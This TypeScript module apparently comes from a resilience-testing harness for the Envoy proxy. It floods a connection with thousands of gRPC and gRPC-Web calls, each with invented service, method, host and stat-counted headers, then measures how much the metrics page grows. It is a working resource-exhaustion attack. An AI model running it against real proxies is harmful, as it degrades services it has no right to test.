import { page } from "../envoy/admin";
import { PATIENCE, type Target } from "./attack";
import { type Ended } from "./budget";
import { type Connection, message } from "./connection";
import { FLAG, frame, headerFrames, TYPE, uint32 } from "./frames";
import { callFields, encode, type Fields } from "./headers";
import { overHttp2 } from "./overHttp2";
import { HEALTH_PATHS } from "../../../envoy/names";

/** As many as make a page of metrics megabytes longer where each name is counted. */
const CALLS = 2000;

/** Calls at a time, where the connection allows as many. */
const AT_A_TIME = 40;

export const inventedNames = overHttp2({
  name: "invented-names",
  about: `${CALLS} calls in gRPC and as many in gRPC-Web, each with a service, a method, a host and headers of its own`,
  endsWith: ["answered"],
  needs: "metrics",
  neighbour: "afterwards",
  async attack(connection, budget, target): Promise<Ended> {
    const before = await metrics(target);
    if (before === 0) return { endedBy: "refused", details: { reason: "no page of metrics" } };
    // The bodies of 415 add up to more than a connection takes unread.
    await connection.send(frame(TYPE.WINDOW_UPDATE, 0, 0, uint32(2 ** 24)));
    let done = 0;
    while (done < 2 * CALLS && budget.left && !connection.closed) done += await call(connection, done);
    return {
      endedBy: connection.closed ? "connection closed" : done < 2 * CALLS ? "still open" : "answered",
      details: { calls: done },
      growth: (await metrics(target)) - before,
    };
  },
});

/** Milliseconds until the page must begin, on a busy machine and under attack. */
const PAGE_PATIENCE = 2 * PATIENCE;

/** Bytes of the page of metrics; 0 where there is none. */
async function metrics({ host, metrics: port = 0 }: Target): Promise<number> {
  const { body } = await page(host, port, HEALTH_PATHS.metrics, PAGE_PATIENCE).catch(() => ({ body: "" }));
  return body.length;
}

/** Several whole calls at a time, and waits for their answers. @returns how many */
async function call(connection: Connection, from: number): Promise<number> {
  const numbers = Array.from({ length: Math.min(AT_A_TIME, connection.maxStreams) }, (_, index) => from + index);
  const streams = numbers.map(() => connection.nextStream());
  const frames = streams.flatMap((stream, index) => [
    headerFrames(stream, encode(invented(from + index)), false),
    frame(TYPE.DATA, FLAG.END_STREAM, stream, message(0)),
  ]);
  const seen = streams.map((stream) => connection.seen(stream));
  await connection.send(...frames);
  await connection.until(() => seen.every(({ ended, reset }) => ended || reset !== undefined), PATIENCE);
  return numbers.length;
}

function invented(number: number): Fields {
  const plain = callFields(`/x.S${number}/M${number}`, `host${number}.example.com`);
  const fields =
    number % 2 === 0 ? plain : plain.map(([name, value]) => [name, isType(name) ? GRPC_WEB : value] as const);
  return [...fields, [`x-name-${number}`, "1"], ...COUNTED_ELSEWHERE.map((name) => [name, `v${number}`] as const)];
}

const GRPC_WEB = "application/grpc-web+proto";
const isType = (name: string): boolean => name === "content-type";

/** Headers whose values Envoy or what stands beside it could count, each by name. */
const COUNTED_ELSEWHERE = [
  "user-agent",
  "origin",
  "x-envoy-upstream-alt-stat-name",
  "x-envoy-downstream-service-cluster",
];
